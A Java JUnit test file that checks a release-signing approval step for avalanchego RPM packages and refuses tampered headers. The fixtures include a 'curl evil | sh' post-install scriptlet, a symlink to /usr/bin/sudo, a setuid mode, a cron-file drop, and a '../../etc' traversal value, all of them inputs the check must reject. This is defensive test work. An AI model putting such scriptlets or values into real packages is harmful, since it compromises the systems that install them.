package io.avalanche.rpm.release;

import io.avalanche.rpm.manifest.ReleaseManifest;
import io.avalanche.rpm.RpmException;
import io.avalanche.rpm.write.Compression;
import io.avalanche.rpm.write.Dependency;
import io.avalanche.rpm.write.FileEntry;
import io.avalanche.rpm.write.PackageSpec;
import io.avalanche.rpm.write.RpmWriter;
import io.avalanche.rpm.format.Arch;
import io.avalanche.rpm.format.Header;
import io.avalanche.rpm.format.HeaderCodec;
import io.avalanche.rpm.format.HeaderEntry;
import io.avalanche.rpm.format.ReleaseTag;
import io.avalanche.rpm.format.RpmType;
import io.avalanche.rpm.format.Tag;
import io.avalanche.rpm.Digests;
import io.avalanche.rpm.testing.TestPackages;
import io.avalanche.rpm.format.RpmReader;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The controller-side check before a release key signs a header an agent sent: the packages this build makes are
 * approved; hostile headers, written with the project's own writer (or its header codec where no spec can express
 * them), are refused naming what differs.
 */
class SigningApprovalTest {
    static final String VM_ID = "srEXiWaHuhNyGwPUi444Tu47ZEDwxTWrbQiuD7FmgSAQ6X7Dy";
    static final String OTHER_VM_ID = "mgj786NP7uDwBCcq6YwThhaN8FLyybkCa4zBWTQbNgmK6k9A6";
    static final ReleaseTag TAG = ReleaseTag.parse("v1.14.1");
    static final Compression GZIP = Compression.parse("gzip");

    @TempDir
    Path tmp;
    Path binary;
    SigningApproval approval;

    @BeforeEach
    void setUp() throws IOException {
        binary = TestPackages.content(tmp.resolve("src"), "binary", 4096, 7);
        approval = SigningApproval.forBuild("v1.14.1", "x86_64", VM_ID);
    }

    PackageSpec avalanchego(ReleaseTag tag, Arch arch) {
        return AvalanchegoPreset.avalanchego(tag, arch, binary, TestPackages.BUILD_TIME, GZIP);
    }

    PackageSpec subnetEvm(String vmId) {
        return AvalanchegoPreset.subnetEvm(TAG, Arch.X86_64, binary, vmId, TestPackages.BUILD_TIME, GZIP);
    }

    /** Writes the package with rpm-release's writer under the file name the build would give it; its main header. */
    byte[] header(PackageSpec spec) {
        return header(spec, TAG.fileName(spec.name(), spec.arch()));
    }

    byte[] header(PackageSpec spec, String fileName) {
        Path dir = tmp.resolve("out-" + System.nanoTime());
        return RpmReader.read(RpmWriter.write(spec, dir, fileName)).headerBytes();
    }

    /** The same header with entries changed through the project's header codec (what no PackageSpec can say). */
    static byte[] edit(byte[] header, UnaryOperator<Header.Builder> change) {
        Header h = HeaderCodec.decode(header, "test header");
        return HeaderCodec.encode(change.apply(h.toBuilder()).build(), HeaderCodec.REGION_TAG_IMMUTABLE);
    }

    /** A copy of a spec with other files (the record's canonical constructor: everything else as the preset has it). */
    static PackageSpec withFiles(PackageSpec s, List<FileEntry> files) {
        return new PackageSpec(s.name(), s.version(), s.release(), s.epoch(), s.arch(), s.summary(), s.description(),
                s.license(), s.url(), s.vendor(), s.packager(), s.group(), s.buildHost(), s.buildTime(), s.requires(),
                s.provides(), files, s.directories(), s.changelog(), s.compression());
    }

    static PackageSpec renamed(PackageSpec s, String name) {
        return new PackageSpec(name, s.version(), s.release(), s.epoch(), s.arch(), s.summary(), s.description(),
                s.license(), s.url(), s.vendor(), s.packager(), s.group(), s.buildHost(), s.buildTime(), s.requires(),
                s.provides(), s.files(), s.directories(), s.changelog(), s.compression());
    }

    static PackageSpec withEpoch(PackageSpec s, int epoch) {
        return new PackageSpec(s.name(), s.version(), s.release(), epoch, s.arch(), s.summary(), s.description(),
                s.license(), s.url(), s.vendor(), s.packager(), s.group(), s.buildHost(), s.buildTime(), s.requires(),
                s.provides(), s.files(), s.directories(), s.changelog(), s.compression());
    }

    static PackageSpec providing(PackageSpec s, Dependency extra) {
        List<Dependency> provides = new ArrayList<>(s.provides());
        provides.add(extra);
        return new PackageSpec(s.name(), s.version(), s.release(), s.epoch(), s.arch(), s.summary(), s.description(),
                s.license(), s.url(), s.vendor(), s.packager(), s.group(), s.buildHost(), s.buildTime(), s.requires(),
                provides, s.files(), s.directories(), s.changelog(), s.compression());
    }

    @Test
    void approvesExactlyThePackagesOfThisBuild() {
        byte[] a = header(avalanchego(TAG, Arch.X86_64));
        byte[] s = header(subnetEvm(VM_ID));
        Map<String, byte[]> request = new LinkedHashMap<>();
        request.put("avalanchego-v1.14.1-x86_64.rpm", a);
        request.put("subnet-evm-v1.14.1-x86_64.rpm", s);
        List<SigningApproval.Approved> approved = approval.approveAll(request);
        assertThat(approved).extracting(SigningApproval.Approved::nevra)
                .containsExactly("avalanchego-1.14.1-1.x86_64", "subnet-evm-1.14.1-1.x86_64");
        assertThat(approved.get(0).headerSha256()).isEqualTo(Digests.sha256Hex(a));
        assertThat(approval.expectedFiles("subnet-evm")).containsOnlyKeys("/var/opt/avalanchego",
                "/var/opt/avalanchego/plugins", "/var/opt/avalanchego/plugins/" + VM_ID);
    }

    @Test
    void approvesWhatTheRealBuildWritesForBothArchsAndPreReleases() throws Exception {
        Path src = TestPackages.sampleRepo(tmp.resolve("repo"), TestPackages.SAMPLE, "v1.14.1-rc.2");
        ReleaseManifest m = ReleaseBuilder.build(new ReleaseBuilder.Request(src, ReleaseTag.parse("v1.14.1-rc.2"),
                Arch.host(), null, tmp.resolve("release"), GZIP), l -> { });
        Map<String, byte[]> request = new LinkedHashMap<>();
        for (ReleaseManifest.Artifact f : m.files()) {
            request.put(f.name(), RpmReader.read(tmp.resolve("release").resolve(f.name())).headerBytes());
        }
        List<SigningApproval.Approved> approved = SigningApproval.forBuild("v1.14.1-rc.2", m.arch(), m.vmId())
                .approveAll(request);
        assertThat(approved).extracting(SigningApproval.Approved::name).containsExactly("avalanchego", "subnet-evm");
        assertThat(approved.get(0).nevra()).isEqualTo("avalanchego-1.14.1~rc.2-1." + Arch.host().rpm());
    }

    @Test
    void theSharedTestPackageIsAReleasePackage() throws IOException {
        // the plugin's signing tests sign TestPackages.avalanchego with the approval of v1.14.1 x86_64
        Path rpm = TestPackages.avalanchego(tmp.resolve("shared"), GZIP, 1000);
        assertThat(approval.approve(rpm.getFileName().toString(), RpmReader.read(rpm).headerBytes()).nevra())
                .isEqualTo("avalanchego-1.14.1-1.x86_64");
    }

    @Test
    void aPullRequestBuildIsApprovedForItsSyntheticTag() {
        ReleaseTag pr = ReleaseTag.forPullRequest("0123456789abcdef");
        byte[] h = header(avalanchego(pr, Arch.AARCH64), pr.fileName("avalanchego", Arch.AARCH64));
        SigningApproval.Approved a = SigningApproval.forBuild(pr.tag(), "aarch64", null)
                .approve(pr.fileName("avalanchego", Arch.AARCH64), h);
        assertThat(a.nevra()).isEqualTo("avalanchego-0.0.0~pr.0123456789ab-1.aarch64");
    }

    @Test
    void aRespinIsApprovedForItsReleaseOnly() {
        ReleaseTag respin = TAG.withRelease("2");
        String file = respin.fileName("avalanchego", Arch.X86_64);
        byte[] h = header(avalanchego(respin, Arch.X86_64), file);
        assertThat(SigningApproval.forBuild(TAG.tag(), "2", "x86_64", null).approve(file, h).nevra())
                .isEqualTo("avalanchego-1.14.1-2.x86_64");
        // release 1's approval refuses the respin's header, and the respin's refuses release 1's
        assertThatThrownBy(() -> approval.approve(file, h)).isInstanceOf(RpmException.class)
                .hasMessageContaining("release");
        byte[] first = header(avalanchego(TAG, Arch.X86_64));
        assertThatThrownBy(() -> SigningApproval.forBuild(TAG.tag(), "2", "x86_64", null)
                .approve("avalanchego-v1.14.1-x86_64.rpm", first)).isInstanceOf(RpmException.class);
    }

    @Test
    void refusesAnotherName() {
        byte[] h = header(renamed(avalanchego(TAG, Arch.X86_64), "openssh-server"), "avalanchego-v1.14.1-x86_64.rpm");
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", h)).isInstanceOf(RpmException.class)
                .hasMessageContaining("name is 'openssh-server', this build may sign only avalanchego or subnet-evm");
    }

    @Test
    void refusesAnotherVersion() {
        byte[] h = header(avalanchego(ReleaseTag.parse("v9.9.9"), Arch.X86_64), "avalanchego-v1.14.1-x86_64.rpm");
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", h))
                .hasMessageContaining("version is '9.9.9', this build may sign only 1.14.1");
    }

    @Test
    void refusesAnotherArch() {
        byte[] h = header(avalanchego(TAG, Arch.AARCH64), "avalanchego-v1.14.1-x86_64.rpm");
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", h))
                .hasMessageContaining("arch is 'aarch64', this build may sign only x86_64");
    }

    @Test
    void refusesAnExtraFile() throws IOException {
        PackageSpec good = avalanchego(TAG, Arch.X86_64);
        List<FileEntry> files = new ArrayList<>(good.files());
        files.add(new FileEntry(binary, "/var/opt/avalanchego/bin/helper", 0755));
        byte[] h = header(withFiles(good, files));
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", h))
                .hasMessageContaining("/var/opt/avalanchego/bin/helper is not a file of avalanchego v1.14.1")
                .hasMessageContaining("expected exactly /var/opt/avalanchego 40755, /var/opt/avalanchego/bin 40755, "
                        + "/var/opt/avalanchego/bin/avalanchego 100755");

        List<FileEntry> outside = new ArrayList<>(good.files());
        outside.add(new FileEntry(binary, "/etc/cron.d/avalanchego", 0644));
        byte[] cron = header(withFiles(good, outside));
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", cron))
                .hasMessageContaining("/etc/cron.d");
    }

    @Test
    void refusesAMissingFile() {
        PackageSpec good = avalanchego(TAG, Arch.X86_64);
        byte[] h = header(withFiles(good, List.of(new FileEntry(binary, "/var/opt/avalanchego/avalanchego", 0755))));
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", h))
                .hasMessageContaining("is not a file of avalanchego");
    }

    @Test
    void refusesAChangedMode() {
        PackageSpec good = avalanchego(TAG, Arch.X86_64);
        byte[] h = header(withFiles(good, List.of(new FileEntry(binary, AvalanchegoPreset.BIN_PATH, 04755))));
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", h))
                .hasMessageContaining("/var/opt/avalanchego/bin/avalanchego has mode 104755, expected 100755");
    }

    @Test
    void refusesAPluginUnderAnotherVmId() {
        byte[] h = header(subnetEvm(OTHER_VM_ID));
        assertThatThrownBy(() -> approval.approve("subnet-evm-v1.14.1-x86_64.rpm", h))
                .hasMessageContaining("/var/opt/avalanchego/plugins/" + OTHER_VM_ID + " is not a file of subnet-evm")
                .hasMessageContaining("/var/opt/avalanchego/plugins/" + VM_ID + " 100755");
        SigningApproval noVmId = SigningApproval.forBuild("v1.14.1", "x86_64", null);
        byte[] good = header(subnetEvm(VM_ID));
        assertThatThrownBy(() -> noVmId.approve("subnet-evm-v1.14.1-x86_64.rpm", good))
                .hasMessageContaining("needs the VM ID the build read");
    }

    @Test
    void refusesAScriptletATriggerAndAnEpoch() {
        byte[] good = header(avalanchego(TAG, Arch.X86_64));
        String name = "avalanchego-v1.14.1-x86_64.rpm";
        byte[] postin = edit(good, b -> b.put(new HeaderEntry(1024, RpmType.STRING, new String[] {"curl evil | sh"}))
                .put(new HeaderEntry(1086, RpmType.STRING, new String[] {"/bin/sh"})));
        assertThatThrownBy(() -> approval.approve(name, postin)).hasMessageContaining("tag 1024")
                .hasMessageContaining("scriptlets");
        byte[] trigger = edit(good, b -> b.put(new HeaderEntry(1066, RpmType.STRING_ARRAY, new String[] {"glibc"})));
        assertThatThrownBy(() -> approval.approve(name, trigger)).hasMessageContaining("tag 1066");
        byte[] epoch = header(withEpoch(avalanchego(TAG, Arch.X86_64), 99));
        assertThatThrownBy(() -> approval.approve(name, epoch)).hasMessageContaining("header has EPOCH");
    }

    @Test
    void approvesExactlyTheServicePackageOfThisTagAndNothingLikeIt() {
        String name = "avalanchego-service-v1.14.1-noarch.rpm";
        PackageSpec svc = AvalanchegoService.spec(TAG, TestPackages.BUILD_TIME, Compression.parse("zstd:19"),
                tmp.resolve("svc"));
        byte[] good = header(svc, name);
        assertThat(approval.approve(name, good).nevra()).isEqualTo("avalanchego-service-1.14.1-1.noarch");
        // any other content: a scriptlet, the unit, the config, a dependency, the tag
        byte[] postin = edit(good, b -> b.put(new HeaderEntry(1024, RpmType.STRING, new String[] {"curl evil | sh"})));
        assertThatThrownBy(() -> approval.approve(name, postin)).hasMessageContaining("is not the avalanchego-service "
                + "package of v1.14.1");
        byte[] unit = header(AvalanchegoService.spec(TAG, TestPackages.BUILD_TIME, Compression.parse("zstd:19"),
                tmp.resolve("svc2"), AvalanchegoService.resource("config.json"), "[Service]\nExecStart=/bin/sh\n"), name);
        assertThatThrownBy(() -> approval.approve(name, unit)).hasMessageContaining("is not the avalanchego-service");
        byte[] config = header(AvalanchegoService.spec(TAG, TestPackages.BUILD_TIME, Compression.parse("zstd:19"),
                tmp.resolve("svc3"), "{\"http-host\": \"0.0.0.0\"}\n"), name);
        assertThatThrownBy(() -> approval.approve(name, config)).hasMessageContaining("is not the avalanchego-service");
        byte[] requires = edit(good, b -> b.strings(Tag.REQUIRENAME, "avalanchego", "x", "x", "x", "x", "x", "x",
                "x", "x", "x"));
        assertThatThrownBy(() -> approval.approve(name, requires)).hasMessageContaining("is not the avalanchego-service");
        byte[] otherTag = header(AvalanchegoService.spec(ReleaseTag.parse("v1.14.2"), TestPackages.BUILD_TIME,
                Compression.parse("zstd:19"), tmp.resolve("svc4")), name);
        assertThatThrownBy(() -> approval.approve(name, otherTag)).hasMessageContaining("is not the");
        assertThatThrownBy(() -> approval.approve("avalanchego-service-v1.14.1-x86_64.rpm", good))
                .hasMessageContaining("may sign only avalanchego-service-v1.14.1-noarch.rpm");
    }

    @Test
    void refusesConfigGhostFlagsOnTheSeedPackages() {
        byte[] good = header(avalanchego(TAG, Arch.X86_64));
        byte[] flagged = edit(good, b -> b.int32(Tag.FILEFLAGS, 0, 0, 64));
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", flagged))
                .hasMessageContaining("FILEFLAGS 64");
    }

    @Test
    void refusesForeignOwnersLinksAndProvides() {
        byte[] good = header(avalanchego(TAG, Arch.X86_64));
        String name = "avalanchego-v1.14.1-x86_64.rpm";
        byte[] owner = edit(good, b -> b.strings(Tag.FILEUSERNAME, "root", "root", "nobody"));
        assertThatThrownBy(() -> approval.approve(name, owner))
                .hasMessageContaining("/var/opt/avalanchego/bin/avalanchego is owned by nobody:root");
        byte[] link = edit(good, b -> b.strings(Tag.FILELINKTOS, "", "", "/usr/bin/sudo"));
        assertThatThrownBy(() -> approval.approve(name, link)).hasMessageContaining("is a link to /usr/bin/sudo");
        byte[] provides = header(providing(avalanchego(TAG, Arch.X86_64), new Dependency("glibc", Dependency.EQUAL,
                "2.99")));
        assertThatThrownBy(() -> approval.approve(name, provides)).hasMessageContaining("provides glibc");
    }

    @Test
    void refusesAFileNameThatIsNotThePackagesOwnSoNoPackageIsSignedTwice() {
        byte[] good = header(avalanchego(TAG, Arch.X86_64));
        assertThatThrownBy(() -> approval.approve("subnet-evm-v1.14.1-x86_64.rpm", good))
                .hasMessageContaining("file name is 'subnet-evm-v1.14.1-x86_64.rpm', this build may sign only "
                        + "avalanchego-v1.14.1-x86_64.rpm");
        // each package only under its own file name, so one request cannot hold a package twice
        Map<String, byte[]> twice = new LinkedHashMap<>();
        twice.put("avalanchego-v1.14.1-x86_64.rpm", good);
        twice.put("avalanchego-v1.14.1-x86_64-copy.rpm", good);
        assertThatThrownBy(() -> approval.approveAll(twice))
                .hasMessageContaining("file name is 'avalanchego-v1.14.1-x86_64-copy.rpm'");
        assertThatThrownBy(() -> approval.approveAll(Map.of())).hasMessageContaining("no headers");
    }

    @Test
    void refusesBytesThatAreNotOneMainHeader() {
        byte[] good = header(avalanchego(TAG, Arch.X86_64));
        byte[] longer = java.util.Arrays.copyOf(good, good.length + 16);
        assertThatThrownBy(() -> approval.approve("avalanchego-v1.14.1-x86_64.rpm", longer))
                .isInstanceOf(RpmException.class);
    }

    @Test
    void refusesBadBuildParameters() {
        assertThatThrownBy(() -> SigningApproval.forBuild("latest", "x86_64", VM_ID)).isInstanceOf(RpmException.class);
        assertThatThrownBy(() -> SigningApproval.forBuild("v1.14.1", "noarch", VM_ID))
                .hasMessageContaining("noarch is not a release arch");
        assertThatThrownBy(() -> SigningApproval.forBuild("v1.14.1", "x86_64", "../../etc"))
                .hasMessageContaining("invalid VM ID");
    }
}
